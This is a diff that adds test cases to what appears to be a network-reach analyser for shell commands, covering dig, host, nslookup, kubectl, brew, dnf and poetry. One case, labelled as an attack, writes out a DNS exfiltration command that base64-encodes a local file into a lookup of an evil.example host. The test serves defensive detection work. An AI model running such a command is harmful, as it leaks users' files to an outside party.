@@ -821,6 +821,54 @@ table('sockets and other clients', [
   },
   { doc: 'rclone remote ⇒ uncertain', cmd: 'rclone copy x s3:bucket', reach: ['write ? shell:rclone'] },
   { doc: 'aria2c', cmd: 'aria2c https://dl.example/a.iso', reach: ['read dl.example:443 shell:aria2c'] },
+  { doc: 'ping(8): the host', cmd: 'ping -c 1 -W 2 db.example', reach: ['write db.example shell:ping'] },
+  {
+    doc: 'dig(1): the name leaves through the resolver',
+    cmd: 'dig +short TXT x.evil.example',
+    reach: ['write x.evil.example shell:dig'],
+  },
+  {
+    doc: 'dig @server',
+    cmd: 'dig @192.0.2.53 github.com A',
+    reach: ['write github.com shell:dig', 'write 192.0.2.53:53 shell:dig:server'],
+  },
+  {
+    doc: 'attack: DNS exfiltration through a substitution',
+    cmd: 'dig "$(base64 < notes.txt).evil.example"',
+    reach: ['write ? shell:dig'],
+  },
+  {
+    doc: 'host NAME SERVER',
+    cmd: 'host -t MX example.org 192.0.2.1',
+    reach: ['write example.org shell:host', 'write 192.0.2.1:53 shell:host:server'],
+  },
+  { doc: 'nslookup NAME', cmd: 'nslookup github.com', reach: ['write github.com shell:nslookup'] },
+  {
+    doc: 'kubectl: the clusters of the kubeconfig',
+    cmd: 'kubectl get pods',
+    env: { KUBECONFIG: '@T@/kc' },
+    files: {
+      kc: 'apiVersion: v1\nclusters:\n- cluster:\n    server: https://k8s.corp.example:6443\n  name: c\n',
+    },
+    reach: ['read k8s.corp.example:6443 shell:kubectl:kubeconfig'],
+  },
+  {
+    doc: 'kubectl --server; apply ⇒ write',
+    cmd: 'kubectl --server=https://api.k.example apply -f x.yaml',
+    reach: ['write api.k.example:443 shell:kubectl'],
+  },
+  { doc: 'kubectl version --client reaches nothing', cmd: 'kubectl version --client', reach: [] },
+  {
+    doc: 'brew: formulae.brew.sh and ghcr.io',
+    cmd: 'brew install jq',
+    reach: ['read formulae.brew.sh:443 shell:brew', 'read ghcr.io:443 shell:brew'],
+  },
+  { doc: 'dnf: mirrors from .repo files ⇒ uncertain', cmd: 'dnf install -y jq', reach: ['read ? shell:dnf'] },
+  {
+    doc: 'poetry add: PyPI',
+    cmd: 'poetry add requests',
+    reach: ['read pypi.org:443 shell:poetry', 'read files.pythonhosted.org:443 shell:poetry'],
+  },
   { doc: 'programs that reach nothing', cmd: 'ls -la && cat README.md | grep x', reach: [] },
 ]);
 
